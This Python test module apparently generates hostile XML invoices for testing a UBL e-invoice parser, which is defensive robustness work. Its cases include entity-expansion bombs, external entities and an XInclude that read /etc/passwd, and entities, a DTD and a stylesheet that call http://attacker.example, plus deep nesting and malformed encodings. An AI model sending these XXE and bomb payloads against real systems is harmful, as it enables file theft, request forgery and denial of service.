"""XML that reaches out, blows up, nests or holds values that no invoice has."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from tests.hostile.pdf_cases import Case, mutations

_SAMPLES = Path(__file__).parents[1] / "reading"
_UBL = (_SAMPLES / "cases_ubl" / "invoice-pint-anz.xml").read_bytes()
_NAMESPACES = (
    b'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"'
    b' xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"'
    b' xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"'
)


def invoice(inside: bytes, *, before: bytes = b"") -> bytes:
    """A UBL invoice with these elements in it."""
    return before + b"<Invoice %b><cbc:ID>A-1</cbc:ID>%b</Invoice>" % (_NAMESPACES, inside)


def lines(count: int) -> bytes:
    """So many invoice lines."""
    line = b"<cac:InvoiceLine><cbc:ID>1</cbc:ID><cbc:InvoicedQuantity>1</cbc:InvoicedQuantity>"
    line += b"<cbc:LineExtensionAmount>1.00</cbc:LineExtensionAmount><cac:Item><cbc:Name>x</cbc:Name></cac:Item>"
    line += b"</cac:InvoiceLine>"
    return line * count


def amounts(value: bytes) -> bytes:
    """A line and totals that all say `value`."""
    return (
        b"<cbc:IssueDate>%b</cbc:IssueDate><cac:TaxTotal><cbc:TaxAmount currencyID='AUD'>%b</cbc:TaxAmount></cac:TaxTotal>"
        b"<cac:LegalMonetaryTotal><cbc:LineExtensionAmount>%b</cbc:LineExtensionAmount><cbc:TaxExclusiveAmount>%b"
        b"</cbc:TaxExclusiveAmount><cbc:TaxInclusiveAmount>%b</cbc:TaxInclusiveAmount><cbc:PayableAmount>%b</cbc:PayableAmount>"
        b"</cac:LegalMonetaryTotal><cac:InvoiceLine><cbc:ID>1</cbc:ID><cbc:InvoicedQuantity>%b</cbc:InvoicedQuantity>"
        b"<cbc:LineExtensionAmount>%b</cbc:LineExtensionAmount><cac:Item><cbc:Name>x</cbc:Name></cac:Item><cac:Price>"
        b"<cbc:PriceAmount>%b</cbc:PriceAmount><cbc:BaseQuantity>%b</cbc:BaseQuantity></cac:Price></cac:InvoiceLine>"
    ) % ((value,) * 10)


def _entities(count: int) -> bytes:
    chain = b"".join(b'<!ENTITY e%d "%b">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, count))
    return b'<!DOCTYPE Invoice [<!ENTITY e0 "lol">%b]>' % chain


_WILD = {
    "exponent": b"1e999999999",
    "small-exponent": b"1e-999999999",
    "large-exponent": b"9.99E+6144",
    "not-a-number": b"NaN",
    "signalling": b"sNaN",
    "infinite": b"-Infinity",
    "a-million-digits": b"9" * 1_000_000,
    "many-decimals": b"0." + b"0" * 100_000 + b"1",
    "signs": b"--5",
    "underscores": b"1_000.00",
    "arabic-digits": "١٢٣٫٥٠".encode(),
    "nothing": b"",
    "a-far-date": b"99999-13-45",
}
_DOCUMENTS: dict[str, bytes] = {
    "a-billion-laughs": invoice(b"<cbc:Note>&e9;</cbc:Note>", before=_entities(10)),
    "quadratic-blow-up": invoice(
        b"<cbc:Note>" + b"&a;" * 50_000 + b"</cbc:Note>", before=b'<!DOCTYPE Invoice [<!ENTITY a "%b">]>' % (b"a" * 50_000)
    ),
    "reads-a-file": invoice(
        b"<cbc:Note>&x;</cbc:Note>", before=b'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "asks-the-network": invoice(
        b"<cbc:Note>&x;</cbc:Note>", before=b'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
    ),
    "parameter-entity": invoice(b"", before=b'<!DOCTYPE Invoice [<!ENTITY % p SYSTEM "http://attacker.example/"> %p;]>'),
    "outside-document-type": invoice(b"", before=b'<!DOCTYPE Invoice SYSTEM "http://attacker.example/x.dtd">'),
    "entity-within-itself": invoice(b"&a;", before=b'<!DOCTYPE Invoice [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
    "default-attributes": invoice(b"", before=b'<!DOCTYPE Invoice [<!ATTLIST Invoice x CDATA "%b">]>' % (b"y" * 99_999)),
    "includes-a-file": invoice(
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "style-sheet": invoice(b"", before=b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://attacker.example/"?>'),
    "a-hundred-thousand-deep": b"<a>" * 100_000 + b"</a>" * 100_000,
    "two-hundred-deep": invoice(b"<cac:X>" * 200 + b"</cac:X>" * 200),
    "a-million-brothers": invoice(b"<cbc:Note/>" * 1_000_000),
    "a-text-of-twenty-megabytes": invoice(b"<cbc:Note>" + b"x" * 20_000_000 + b"</cbc:Note>"),
    "an-attribute-of-nine-megabytes": invoice(b'<cbc:Note x="%b"/>' % (b"x" * 9_000_000)),
    "a-hundred-thousand-attributes": invoice(b"<cbc:Note %b/>" % b" ".join(b"a%d='1'" % n for n in range(100_000))),
    "ten-thousand-name-spaces": invoice(b"".join(b"<n%d:a xmlns:n%d='urn:%d'/>" % (n, n, n) for n in range(10_000))),
    "a-hundred-thousand-lines": invoice(amounts(b"1.00") + lines(100_000)),
    "a-thousand-tax-groups": invoice(b"<cac:TaxTotal><cac:TaxSubtotal/></cac:TaxTotal>" * 1000),
    "sub-lines-within-sub-lines": invoice(b"<cac:SubInvoiceLine>" * 240 + b"</cac:SubInvoiceLine>" * 240),
    "an-attachment-that-is-no-base64": invoice(
        b"<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cac:Attachment><cbc:EmbeddedDocumentBinaryObject"
        b" mimeCode='application/pdf' filename='../../x.pdf'>%%%</cbc:EmbeddedDocumentBinaryObject></cac:Attachment>"
        b"</cac:AdditionalDocumentReference>"
    ),
    "says-utf-16-and-is-not": invoice(b"", before=b"<?xml version='1.0' encoding='UTF-16'?>"),
    "says-utf-7": invoice(b"", before=b"<?xml version='1.0' encoding='UTF-7'?>"),
    "says-an-unknown-encoding": invoice(b"", before=b"<?xml version='1.0' encoding='no-such'?>"),
    "utf-32": invoice(b"").decode().encode("utf-32"),
    "utf-16": invoice(b"").decode().encode("utf-16"),
    "zeros-between": invoice(b"<cbc:Note>a\x00b</cbc:Note>"),
    "not-unicode": invoice(b"<cbc:Note>\xff\xfe\xed\xa0\x80</cbc:Note>"),
    "character-beyond-all": invoice(b"<cbc:Note>&#x110000;</cbc:Note>"),
    "nothing-in-it": b"<Invoice/>",
    "only-the-mark": b"<",
    "a-comment-without-end": invoice(b"<!-- "),
    "a-section-without-end": invoice(b"<![CDATA[" + b"x" * 1_000_000),
}


def xml_cases() -> Iterator[Case]:
    """Every case, mutations and bombs."""
    for at, content in enumerate(mutations(11, 48, _UBL)):
        yield Case(f"mutation-{at}.xml", lambda content=content: content)
    for name, content in _DOCUMENTS.items():
        yield Case(f"{name}.xml", lambda content=content: content)
    for name, value in _WILD.items():
        yield Case(f"amounts-{name}.xml", lambda value=value: invoice(amounts(value)))
